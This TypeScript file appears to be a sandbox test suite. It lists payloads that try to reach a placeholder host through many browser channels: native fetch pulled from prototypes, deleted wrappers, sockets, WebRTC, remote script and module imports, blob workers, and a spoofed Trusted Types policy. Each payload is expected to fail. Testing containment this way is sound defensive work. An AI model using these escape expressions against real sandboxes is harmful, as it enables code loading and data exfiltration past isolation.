/** Code that tries to be heard outside by every way that a browser has. */
import { nothing, tries, type Payload } from './payload.ts';

const places = `(() => {
      const places = [];
      for (let place = globalThis; place; place = Object.getPrototypeOf(place)) places.push(place);
      return places;
    })()`;

/** The platform's own, below what stands in for it. */
const native = (name: string) =>
  `${places}.slice(1).map((place) => Object.getOwnPropertyDescriptor(place, '${name}')?.value).find(Boolean)`;

const worker = (source: string) =>
  `URL.createObjectURL(new Blob([${JSON.stringify(source)}], { type: 'text/javascript' }))`;

const asks = (path: string) => `fetch('http://{SITE}/${path}').then(() => postMessage('sent'))`;

const heard = (made: string) => `new Promise((found, stop) => {
      const made = ${made};
      made.onmessage = ({ data }) => found(data);
      made.onerror = stop;
    })`;

const opened = (made: string) => `new Promise((found, stop) => {
      const made = ${made};
      made.onopen = () => found('open');
      made.onerror = stop;
    })`;

interface Way {
  name: string;
  /** Expressions. */
  by: string[];
  /** No worker has this, or it needs more than a small server to be heard. */
  unheard?: true;
}

const ways: readonly Way[] = [
  {
    name: 'the fetch of the platform, from the prototype of the global object',
    by: [`${native('fetch')}.call(globalThis, 'http://{SITE}/native').then(({ status }) => status)`],
  },
  {
    name: 'the fetch of the platform, after deleting what stands in for it',
    by: ["(delete globalThis.fetch, fetch('http://{SITE}/deleted').then(({ status }) => status))"],
  },
  {
    name: 'the fetch of the platform, without waiting for an answer and kept alive',
    by: [
      `(${native('fetch')}.call(globalThis, 'http://{SITE}/alive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }), undefined)`,
      `(${native('fetch')}.call(globalThis, new Request('http://{SITE}/request', { mode: 'no-cors' })), undefined)`,
    ],
  },
  {
    name: 'a fetch of its own data, to find out whether the policy can be widened',
    by: [
      `${native('fetch')}.call(globalThis, 'data:text/plain,1').then((answer) => answer.text())`,
      `${native('fetch')}.call(globalThis, URL.createObjectURL(new Blob(['1']))).then((answer) => answer.text())`,
    ],
    unheard: true,
  },
  {
    name: 'an XMLHttpRequest that waits',
    by: [
      "(() => { const ask = new XMLHttpRequest(); ask.open('GET', 'http://{SITE}/xhr', false); ask.send(); return ask.status; })()",
    ],
  },
  {
    name: 'an XMLHttpRequest from a prototype',
    by: [
      `(() => { const ask = new (${places}.map((place) => Object.getOwnPropertyDescriptor(place, 'XMLHttpRequest')?.value).find(Boolean))(); ask.open('GET', 'http://{SITE}/xhr2', false); ask.send(); return ask.status; })()`,
    ],
  },
  { name: 'a web socket', by: [opened("new WebSocket('ws://{SITE}/socket')")] },
  {
    name: 'a stream of a web socket',
    by: ["new WebSocketStream('ws://{SITE}/stream').opened.then(() => 'open')"],
  },
  { name: 'an event source', by: [opened("new EventSource('http://{SITE}/events')")] },
  {
    name: 'web transport',
    by: [
      "(() => { const made = new WebTransport('https://{SITE}/transport'); return made.ready.then(() => 'open'); })()",
    ],
    unheard: true,
  },
  {
    name: 'a peer connection that asks its server who it is',
    by: [
      `new Promise((found, stop) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{SITE}' }] });
      peer.createDataChannel('x');
      peer.onicecandidate = ({ candidate }) => candidate && found(candidate.candidate);
      peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(stop);
    })`,
    ],
    unheard: true,
  },
  { name: 'a script of another host', by: ["importScripts('http://{SITE}/script.js')"] },
  {
    name: 'a script of another host, by the function of the prototype',
    by: [`${native('importScripts')}.call(globalThis, 'http://{SITE}/script2.js')`],
  },
  {
    name: 'a module of another host',
    by: ["import('http://{SITE}/module.js').then(() => 'imported')"],
  },
  {
    name: 'a module that is data',
    by: ['import(`data:text/javascript,export default 1`).then(() => "imported")'],
    unheard: true,
  },
  {
    name: 'a module that is a blob',
    by: [`import(${worker('export default 1')}).then(() => 'imported')`],
    unheard: true,
  },
  {
    name: 'the fetch of a worker in the worker',
    by: [
      heard(`new Worker(${worker(asks('nested'))})`),
      heard(`new Worker(${worker(asks('nested2'))}, { type: 'module' })`),
    ],
  },
  {
    name: 'the fetch of a worker made of data',
    by: [heard(`new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(asks('data'))}))`)],
  },
  {
    name: 'the fetch of a worker that a policy with the name of ours has blessed',
    by: [
      `(() => {
      const policy = trustedTypes.createPolicy('sluice-sandbox', { createScriptURL: (url) => url });
      return ${heard(`new Worker(policy.createScriptURL(${worker(asks('blessed'))}))`)};
    })()`,
    ],
  },
  {
    name: 'the fetch of a shared worker',
    by: [`(new SharedWorker(${worker("fetch('http://{SITE}/shared')")}).port.start(), 'started')`],
    unheard: true,
  },
  {
    name: 'a beacon',
    by: [
      "navigator.sendBeacon('http://{SITE}/beacon', 'x') || undefined",
      "fetchLater('http://{SITE}/later').activated",
    ],
    unheard: true,
  },
  {
    name: 'a font',
    by: ["new FontFace('x', 'url(http://{SITE}/font.woff2)').load().then(() => 'loaded')"],
  },
  {
    name: 'a picture',
    by: [
      "createImageBitmap('http://{SITE}/picture.png')",
      "(() => { const picture = new Image(); picture.src = 'http://{SITE}/picture.png'; return 'asked'; })()",
      "new ImageDecoder({ data: 'http://{SITE}/picture.png', type: 'image/png' }).completed",
    ],
    unheard: true,
  },
  {
    name: 'a hint to look a name up or to connect',
    by: [
      "(() => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://{SITE}'; document.head.append(link); return 'hinted'; })()",
      "(new Request('http://{SITE}/looked', { method: 'GET' }).text(), undefined)",
      "(new URL('http://{SITE}/looked').host, undefined)",
      "(performance.mark('http://{SITE}/looked'), undefined)",
    ],
    unheard: true,
  },
  {
    name: 'a report of what the policy refused',
    by: [
      '(new ReportingObserver(() => undefined, { buffered: true }).observe(), undefined)',
      `(addEventListener('securitypolicyviolation', () => undefined), ${native('fetch')}.call(globalThis, 'http://{SITE}/report'))`,
    ],
    unheard: true,
  },
  {
    name: 'compiled code that brings its own bytes',
    by: [
      'WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => "compiled")',
      `WebAssembly.compileStreaming(${native('fetch')}.call(globalThis, 'http://{SITE}/code.wasm')).then(() => "compiled")`,
    ],
  },
  {
    name: 'a way through the app, by addresses that only the app may use',
    by: [
      "navigator.registerProtocolHandler('web+left', 'http://{SITE}/%s')",
      "navigator.share({ url: 'http://{SITE}/shared' }).then(() => 'shared')",
      "(location.href = 'http://{SITE}/location', undefined)",
      "(location.assign('http://{SITE}/assigned'), 'moved')",
      "open('http://{SITE}/opened').name",
    ],
    unheard: true,
  },
];

export const network: readonly Payload[] = ways.map(({ name, by, unheard }) => ({
  name: `sends by ${name}`,
  code: tries(...by),
  expected: nothing,
  ...(!unheard && { unguarded: 'reaches the server' as const }),
}));
